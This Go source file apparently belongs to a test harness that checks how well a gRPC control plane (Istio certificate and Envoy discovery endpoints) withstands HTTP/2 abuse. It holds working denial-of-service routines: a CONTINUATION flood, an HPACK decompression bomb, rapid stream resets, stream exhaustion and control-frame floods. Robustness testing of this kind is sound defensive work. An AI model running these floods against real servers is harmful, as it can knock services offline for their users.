// SPDX-License-Identifier: Apache-2.0
// Copyright The Outrigger Authors

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rawHTTP2 is an HTTP/2 connection on which this program writes every frame itself.
type rawHTTP2 struct {
	*http2.Framer
	conn net.Conn
	head []byte // compressed header of a gRPC call
}

// http2To connects to an address, with TLS if cfg is not nil, and discards what the server sends.
func http2To(ctx context.Context, address string, cfg *tls.Config, path string) (*rawHTTP2, error) {
	conn, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	if cfg != nil {
		conn = tls.Client(conn, cfg)
	}
	// The attack ends when the server closes the connection, or after a while if it stops reading.
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second)) // cannot fail on an open connection
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		_ = conn.Close() // return the error of the write
		return nil, err
	}
	h := &rawHTTP2{Framer: http2.NewFramer(conn, nil), conn: conn}
	if err := h.WriteSettings(); err != nil {
		_ = conn.Close() // return the other error
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", planeName}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return nil, err
		}
	}
	h.head = b.Bytes()
	return h, nil
}

// clientTLS returns the configuration of a client of the secure port without a certificate.
func (p *plane) clientTLS() *tls.Config {
	return &tls.Config{RootCAs: p.roots, ServerName: planeName, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12}
}

const (
	signPath = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
	adsPath  = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
)

// continuations sends headers without end, until the server closes the connection or size bytes
// have been sent.
func (h *rawHTTP2) continuations(size int) error {
	if err := h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.head}); err != nil {
		return err
	}
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for n := 0; n < size; n += b.Len() {
		b.Reset()
		// Different values that are not indexed cost the server as much as the client.
		if err := enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", n), Value: strings.Repeat("x", 8<<10), Sensitive: true}); err != nil {
			return err
		}
		if err := h.WriteContinuation(1, false, b.Bytes()); err != nil {
			return err
		}
	}
	return nil
}

// bomb adds one header to the server's table and refers to it repeatedly: each byte expands to 4
// kB.
func (h *rawHTTP2) bomb(size int) error {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	if err := enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3<<10)}); err != nil {
		return err
	}
	if err := h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: append(bytes.Clone(h.head), b.Bytes()...)}); err != nil {
		return err
	}
	again := bytes.Repeat([]byte{0x80 | 62}, 16<<10) // the newest entry in the table
	for n := 0; n < size; n += len(again) {
		if err := h.WriteContinuation(1, false, again); err != nil {
			return err
		}
	}
	return nil
}

// resets opens streams and resets each of them immediately.
func (h *rawHTTP2) resets(n int) error {
	for i := range n {
		id := uint32(2*i + 1)
		if err := h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.head, EndHeaders: true}); err != nil {
			return err
		}
		if err := h.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// streams opens streams and leaves them open, each with the beginning of a message that claims to
// be long.
func (h *rawHTTP2) streams(n int) error {
	long := append([]byte{0, 0x03, 0xff, 0xff, 0xff}, bytes.Repeat([]byte{0}, 8<<10)...)
	for i := range n {
		id := uint32(2*i + 1)
		if err := h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.head, EndHeaders: true}); err != nil {
			return err
		}
		if err := h.WriteData(id, false, long); err != nil {
			return err
		}
	}
	return nil
}

// controls sends frames that require a response.
func (h *rawHTTP2) controls(n int) error {
	for i := range n {
		if err := h.WritePing(false, [8]byte{byte(i)}); err != nil {
			return err
		}
		if err := h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}); err != nil {
			return err
		}
	}
	return nil
}
